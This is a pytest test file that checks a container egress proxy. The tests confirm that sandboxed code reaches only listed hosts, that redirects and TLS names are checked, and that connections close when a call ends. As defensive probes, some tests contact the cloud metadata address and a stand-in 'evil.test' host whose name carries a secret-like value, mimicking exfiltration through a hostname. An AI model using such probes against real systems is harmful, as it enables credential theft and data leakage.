"""Real containers: what egress adds to one, what it does not."""

import asyncio
import json
import secrets
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import docker
import pytest

from broker.adapters.docker_engine import DockerEngine
from broker.adapters.docker_engine.runtimes import demanded
from broker.adapters.docker_engine.settings import differences
from broker.adapters.egress_proxy import EgressProxy
from broker.core.call import Cause
from broker.core.destination import read_destination
from broker.core.egress import Egress, EgressProtocol, EgressReason
from broker.core.sandbox import Profile
from broker.core.secret import Secret
from broker.errors import SandboxError
from tests.broker_process import DOCKER_URL
from tests.egress.places import LOOPBACK, Names, Places
from tests.sandbox.bench import Bench, Place, job
from tests.sandbox.conftest import client, images, profile, seccomp  # noqa: F401 (fixtures)

PROBES = """
import errno, os, socket, ssl, sys
def say(text, name="http.sock"):
    with socket.socket(socket.AF_UNIX) as s:
        s.connect("/egress/" + name)
        s.sendall(text.encode())
        out = b""
        while data := s.recv(65536):
            out += data
    return out.decode("latin-1")
def get(place, path="/", host=""):
    return say(f"GET http://{place}{path} HTTP/1.1\\r\\nHost: {host or place}\\r\\n\\r\\n")
"""


@pytest.fixture
async def networked(
    place: Place,
    client: docker.APIClient,  # noqa: F811
    seccomp: str,  # noqa: F811
    root: Path,
    names: Names,
    places: Places,
) -> AsyncIterator[DockerEngine]:
    """An engine with a proxy; no container and no folder may be left."""
    installation = f"test-{secrets.token_hex(6)}"
    proxy = EgressProxy(
        root, installation=installation, resolver=names, allow=(LOOPBACK,), ca=places.ca
    )
    engine = place.engine(
        seccomp=seccomp, boot="boot-2", workers=4, installation=installation, egress=proxy
    )
    yield engine
    label = f"org.toolwarrant.installation={installation}"
    left = client.containers(all=True, filters={"label": label})
    await engine.close()
    assert left == []
    assert _entries(root) == []


@pytest.fixture
def bench(networked: DockerEngine, profile: Profile) -> Bench:  # noqa: F811
    """A place to run programs in sandboxes."""
    return Bench(engine=networked, profile=profile)


def _entries(folder: Path) -> list[str]:
    return [entry.name for entry in folder.iterdir()]


def to(*listed: str, protocol: EgressProtocol = EgressProtocol.HTTP) -> Egress:
    """Egress to these places."""
    return Egress(destinations=tuple(map(read_destination, listed)), protocol=protocol)


Run = Callable[..., Awaitable[str]]


@pytest.fixture
def run(bench: Bench) -> Run:
    """Runs a probe in a container with egress to these places; gives what it printed."""

    async def run(code: str, *listed: str, **more: Any) -> str:
        report = await bench.run(PROBES + code, egress=to(*listed, **more))
        assert report.exit_code == 0, report.stderr.data
        return report.stdout.data.decode()

    return run


class TestProfile:
    async def test_has_one_mount_and_no_network(self, bench: Bench, places: Places) -> None:
        """The sockets are there, read-only, and nothing else of a network is."""
        sandbox = await bench.prepare(egress=to(f"site.test:{places.http}"))
        facts = sandbox.enforced.facts
        assert facts["network"] == "none"
        assert "bind /egress ro" in facts["mounts"]  # type: ignore[operator]
        assert facts["egress_destinations"] == 1
        code = f"""
devices = [line.partition(":")[0].strip() for line in open("/proc/net/dev")][2:]
print(devices, sorted(os.listdir("/egress")))
for what in (lambda: open("/egress/x", "w"), lambda: os.unlink("/egress/http.sock"),
             lambda: os.rename("/egress/http.sock", "/egress/y"),
             lambda: socket.create_connection(("127.0.0.1", {places.http}), 5),
             lambda: socket.create_connection(("169.254.169.254", 80), 5),
             lambda: socket.getaddrinfo("site.test", 80)):
    try:
        what()
        print("done")
    except socket.gaierror:
        print("no name server")
    except OSError as error:
        # Which of the first two it is, is the runtime's choice.
        read_only = error.errno in (errno.EROFS, errno.EACCES)
        print("read-only" if read_only else errno.errorcode[error.errno])
"""
        report = await sandbox.run(job(PROBES + code))
        await sandbox.discard()
        assert report.exit_code == 0, report.stderr.data
        assert report.stdout.data.decode().splitlines() == [
            "['lo'] ['ca.pem', 'http.sock', 'tcp']",
            "read-only",
            "read-only",
            "read-only",
            "ECONNREFUSED",
            "ENETUNREACH",
            "no name server",
        ]

    async def test_without_egress_has_no_mount(self, bench: Bench) -> None:
        """A call that lists nothing gets the container that it always got."""
        sandbox = await bench.prepare()
        assert not any("egress" in str(mount) for mount in sandbox.enforced.facts["mounts"])  # type: ignore[union-attr]
        assert sandbox.enforced.facts["egress_destinations"] == 0
        report = await sandbox.run(job("import os; print(os.path.exists('/egress'))"))
        await sandbox.discard()
        assert report.stdout.data == b"False\n"
        assert report.egress is None

    async def test_is_read_back(
        self,
        bench: Bench,
        place: Place,
        client: docker.APIClient,  # noqa: F811
        seccomp: str,  # noqa: F811
        root: Path,
    ) -> None:
        """Another folder, a writable one, or a mount that nobody demanded is another container."""
        egress = to("site.test:80")
        sandbox = await bench.prepare(egress=egress)
        found = client.inspect_container(sandbox.enforced.container_id)
        await sandbox.discard()
        own = Path(found["Mounts"][0]["Source"])
        uid = int(found["Config"]["User"].split(":")[0])
        wanted = replace(bench.profile, egress=egress)
        runtime = demanded(client.info(), place.runtime)

        def faults(asked: Profile, sockets: Path | None, **mount: Any) -> list[str]:
            seen = {**found, "Mounts": [{**found["Mounts"][0], **mount}]}
            return differences(
                asked, seen, uid=uid, seccomp=seccomp, labels={}, runtime=runtime, sockets=sockets
            )

        assert faults(wanted, own) == []
        assert any("Mounts" in fault for fault in faults(wanted, root / "other"))
        assert any("Mounts" in fault for fault in faults(wanted, own, RW=True))
        assert any("Mounts" in fault for fault in faults(bench.profile, None))

    async def test_needs_a_proxy(
        self,
        client: docker.APIClient,  # noqa: F811
        seccomp: str,  # noqa: F811
        profile: Profile,  # noqa: F811
    ) -> None:
        """An engine that has none makes no container with egress."""
        engine = DockerEngine(DOCKER_URL, installation="t", boot="b", workers=1, seccomp=seccomp)
        with pytest.raises(SandboxError, match="no way out"):
            await engine.prepare(
                replace(profile, egress=to("site.test:80")), slot=secrets.token_hex(4)
            )
        await engine.close()


class TestRow:
    """The threat model's row on egress, from inside."""

    async def test_the_listed_place_answers(self, run: Run, places: Places) -> None:
        """What policy opened works: http, and https verified from within."""
        plain, secure = f"site.test:{places.http}", f"site.test:{places.https}"
        code = f"""
print(get("{plain}")[:12])
with socket.socket(socket.AF_UNIX) as s:
    s.connect("/egress/http.sock")
    s.sendall(b"CONNECT {secure} HTTP/1.1\\r\\nHost: {secure}\\r\\n\\r\\n")
    print(s.recv(4096).decode()[:12])
    context = ssl.create_default_context(cafile="/egress/ca.pem")
    tls = context.wrap_socket(s, server_hostname="site.test")
    tls.sendall(b"GET / HTTP/1.1\\r\\nHost: {secure}\\r\\nConnection: close\\r\\n\\r\\n")
    print(tls.recv(4096).decode()[:12])
"""
        assert (await run(code, plain, secure)).splitlines() == ["HTTP/1.1 200"] * 3

    @pytest.mark.parametrize(
        "asked",
        ["other.test:{http}", "127.0.0.1:{http}", "site.test:{http}", "x2.evil.test:{http}"],
    )
    async def test_nothing_else_does(self, run: Run, places: Places, asked: str) -> None:
        """Another host, the address, another port, data in a name; listed, each passes."""
        place = asked.format(http=places.http)
        code = f"print(get({place!r})[:12])"
        assert await run(code, f"site.test:{places.echo}") == "HTTP/1.1 403\n"
        assert await run(code, place) == "HTTP/1.1 200\n"

    async def test_a_redirect_meets_the_list(self, run: Run, places: Places) -> None:
        """Following it is a new wish; listed, it leads there."""
        plain, other = f"site.test:{places.http}", f"other.test:{places.http}"
        code = f"""
answer = get("{plain}", "/to/http://{other}/")
place = answer.lower().split("location: http://")[1].split("/")[0]
print(answer[:12], get(place)[:12])
"""
        assert await run(code, plain) == "HTTP/1.1 302 HTTP/1.1 403\n"
        assert await run(code, plain, other) == "HTTP/1.1 302 HTTP/1.1 200\n"

    async def test_another_servers_name_is_no_way(self, run: Run, places: Places) -> None:
        """A hello for somebody else is cut off; on a raw socket it passes."""
        place = f"site.test:{places.https}"
        code = f"""
def handshake(name, first):
    with socket.socket(socket.AF_UNIX) as s:
        s.connect("/egress/" + name)
        if first:
            s.sendall(first)
            s.recv(4096)
        try:
            context = ssl.create_default_context(cafile="/egress/ca.pem")
            return context.wrap_socket(s, server_hostname="other.test").version()
        except OSError as error:
            return type(error).__name__
if os.path.exists("/egress/http.sock"):
    print(handshake("http.sock", b"CONNECT {place} HTTP/1.1\\r\\nHost: {place}\\r\\n\\r\\n"))
else:
    print(handshake("tcp/{place}", b""))
"""
        assert await run(code, place) == "SSLError\n"
        assert await run(code, place, protocol=EgressProtocol.TCP) == "TLSv1.3\n"

    @pytest.mark.parametrize("value", [b"", b"s3cr3t0123456789"], ids=["twin", "with a secret"])
    async def test_a_secret_as_a_host_is_not_told(self, bench: Bench, value: bytes) -> None:
        """What a tool that has a secret asks for and does not get is not in the report."""
        code = 'print(get("s3cr3t0123456789.evil.test:443")[9:12])'
        sandbox = await bench.prepare(egress=to("site.test:80"))
        given = (Secret(name="api_token", value=value),) if value else ()
        report = await sandbox.run(replace(job(PROBES + code), secrets=given))
        await sandbox.discard()
        assert report.stdout.data == b"403\n"
        assert report.egress is not None
        told = json.dumps(report.egress.listing)
        assert ("s3cr3t" in told, "NOT_LISTED" in told) == (not value, True)

    async def test_concurrent_calls_keep_their_own_lists(self, run: Run, places: Places) -> None:
        """Containers that run at the same time reach their own places, not each other's."""
        own = [f"host-{number}.test:{places.http}" for number in range(3)]
        code = f"print([get(place)[9:12] for place in {own!r}])"
        said = await asyncio.gather(*(run(code, place) for place in own))
        assert [json.loads(line.replace("'", '"')) for line in said] == [
            ["200", "403", "403"],
            ["403", "200", "403"],
            ["403", "403", "200"],
        ]


class TestEnd:
    async def test_of_the_tool_ends_its_connections(self, bench: Bench, places: Places) -> None:
        """A daemon that the tool leaves behind goes out no more when the report is there."""
        place = f"site.test:{places.echo}"
        code = f"""
read_end, write_end = os.pipe()
if os.fork() == 0:
    os.setsid()
    s = socket.socket(socket.AF_UNIX)
    s.connect("/egress/tcp/{place}")
    s.sendall(b"x")
    os.write(write_end, s.recv(1))
    while s.recv(1):
        pass
print(os.read(read_end, 1))
"""
        sandbox = await bench.prepare(egress=to(place, protocol=EgressProtocol.TCP))
        report = await sandbox.run(job(PROBES + code))
        await sandbox.discard()
        assert (report.cause, report.stdout.data) == (Cause.EXITED, b"b'x'\n")
        assert report.egress is not None
        (visit,) = report.egress.visits
        assert (visit.sent_bytes, visit.received_bytes) == (1, 1)

    async def test_by_a_kill_ends_its_connections(
        self, bench: Bench, names: Names, places: Places
    ) -> None:
        """A call that is halted has no connection any more, and says what it had."""
        place = f"site.test:{places.echo}"
        code = f"""
s = socket.socket(socket.AF_UNIX)
s.connect("/egress/tcp/{place}")
s.recv(1)
"""
        sandbox = await bench.prepare(egress=to(place, protocol=EgressProtocol.TCP))
        running = asyncio.create_task(sandbox.run(job(PROBES + code, timeout_s=60)))
        await names.heard.wait()
        await sandbox.kill(Cause.HALTED)
        report = await running
        await sandbox.discard()
        assert report.cause is Cause.HALTED
        assert report.egress is not None
        assert [visit.reason for visit in report.egress.visits] == [EgressReason.CALL_ENDED]
        assert ("egress", "broker") in report.sources

    async def test_of_the_engine_closes_what_is_open(
        self, bench: Bench, root: Path, places: Places
    ) -> None:
        """A container that nobody discarded has no way out when the engine is closed."""
        await bench.prepare(egress=to(f"site.test:{places.http}"))
        assert len(_entries(root)) == 1
        await bench.engine.close()
        assert _entries(root) == []

    async def test_leaves_no_folder_where_no_container_came(
        self,
        bench: Bench,
        root: Path,
    ) -> None:
        """A container that cannot be made takes its sockets with it."""
        with pytest.raises(SandboxError):
            await bench.prepare(egress=to("site.test:80"), image="sha256:" + "0" * 64)
        assert _entries(root) == []
